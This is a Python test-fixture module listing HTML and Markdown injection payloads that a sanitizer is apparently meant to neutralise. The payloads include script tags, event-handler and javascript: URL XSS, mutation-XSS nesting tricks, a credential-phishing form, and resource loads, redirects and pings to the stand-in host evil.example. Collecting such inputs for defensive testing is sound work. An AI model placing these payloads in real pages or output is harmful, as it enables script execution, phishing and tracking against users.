"""What a hostile document may try, in HTML and Markdown alike."""

from __future__ import annotations

from typing import Final

HOSTILE: Final = [
    "<script>alert(1)</script>",
    "<img src=https://evil.example/i.png onerror=alert(1)>",
    "![x](https://evil.example/i.png)",
    "<svg><image href=https://evil.example/i.svg /><script>1</script></svg>",
    "<iframe src=https://evil.example></iframe><object data=//evil.example></object><embed src=x>",
    "<link rel=stylesheet href=https://evil.example/a.css><style>@import '//evil.example'</style>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href=javascript:alert(1)>x</a><a href='java\tscript:alert(1)'>y</a><a href=data:text/html,x>z</a>",
    "[x](javascript:alert(1)) [y](//evil.example/) [z](\\\\evil.example\\share)",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/b)' class=bar id=cited>x</div>",
    "<mark id=cited>not cited</mark><header class=bar>Open the original</header>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<video src=https://evil.example/v poster=//evil.example/p></video><audio src=//evil.example/a></audio>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'><img srcset=https://evil.example/s>",
    "<a href='x.md?a\" onclick=\"alert(1)'>x</a><a href=x.md ping=https://evil.example>y</a>",
    "<template><script>1</script></template><!--><script>alert(1)</script>-->",
]
